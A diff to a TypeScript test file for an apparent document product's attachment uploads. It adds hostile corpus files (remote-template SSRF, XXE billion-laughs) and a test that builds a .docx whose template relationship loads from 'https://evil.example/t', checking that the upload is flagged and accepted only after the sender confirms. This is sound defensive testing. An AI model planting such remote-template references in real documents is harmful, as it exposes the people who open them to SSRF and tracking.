@@ -9,7 +9,8 @@ import { call, must, useProduct } from "../support/api";
 import { corpusFile, corpusFiles, hasCorpus } from "../support/corpus";
 import { givenPdf, type Sender } from "../support/given";
 import { type Draft, givenDocument, givenDraft, givenMember, givenSent } from "../support/shortcuts";
-import { officeFile, oldOfficeFile } from "../support/office-files";
+import { givenTemplate } from "../support/templates";
+import { officeFile, officeFileOf, oldOfficeFile } from "../support/office-files";
 
 useProduct();
 
@@ -96,13 +97,15 @@ describe("what may be attached", () => {
         token: sender.token,
         form: formOf(new Uint8Array(corpusFile(name)), name),
       });
-      expect([name, [201, 415, 422].includes(answer.status)]).toEqual([name, true]);
+      expect([name, [201, 409, 415, 422].includes(answer.status)]).toEqual([name, true]);
       expect([name, performance.now() - started < 5000]).toEqual([name, true]);
       if (answer.status === 201) accepted.push(name.replace("hostile/", ""));
     }
     // Harmless as a download, because the product never opens them.
     for (const name of [
       "macro-renamed.docx",
+      "remote-template-ssrf.docx",
+      "xxe-billion-laughs.docx",
       "zip-slip.docx",
       "zip-bomb.docx",
       "pixel-flood-30k.png",
@@ -185,5 +188,38 @@ describe("in a workflow", () => {
     expect((await read()).map((a: { id: number; title: string }) => [a.id, a.title])).toEqual([[second.id, "Pay"]]);
     const [row] = await database().select().from(attachments).where(eq(attachments.id, second.id));
     expect(row).toMatchObject({ kind: "requested", workflowId: draft.id, signatoryId });
+  });
+});
+
+describe("a file that loads something when it is opened", () => {
+  const remote = () =>
+    officeFileOf({
+      "word/document.xml": "<x/>",
+      "word/_rels/settings.xml.rels":
+        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/></Relationships>',
+    });
+
+  test("is named to the sender and attached only once they confirm it, wherever reference documents are taken", async () => {
+    const title = { title: "Terms" };
+    const template = await givenTemplate(sender);
+    for (const path of [
+      `/workflows/${draft.id}/attachments`,
+      "/attachments",
+      `/templates/${template.id}/attachments`,
+    ]) {
+      const send = async (more: Record<string, string>) =>
+        call("POST", path, { token: sender.token, form: formOf(await remote(), "terms.docx", { ...title, ...more }) });
+      const refused = await send({});
+      expect([refused.status, refused.json.label], path).toEqual([409, "LoadsWhenOpened"]);
+      expect(refused.json.message).toBe("This file loads something from evil.example when it is opened.");
+      expect((await send({ loads_confirmed: "yes" })).status).toBe(422);
+      const confirmed = await send({ loads_confirmed: "true" });
+      expect([confirmed.status, confirmed.json.attachment]).toMatchObject([
+        201,
+        { loads_from: ["evil.example"], loads_confirmed: true },
+      ]);
+    }
+    const stored = await database().select().from(attachments).where(eq(attachments.title, "Terms"));
+    expect(stored).toHaveLength(3);
   });
 });
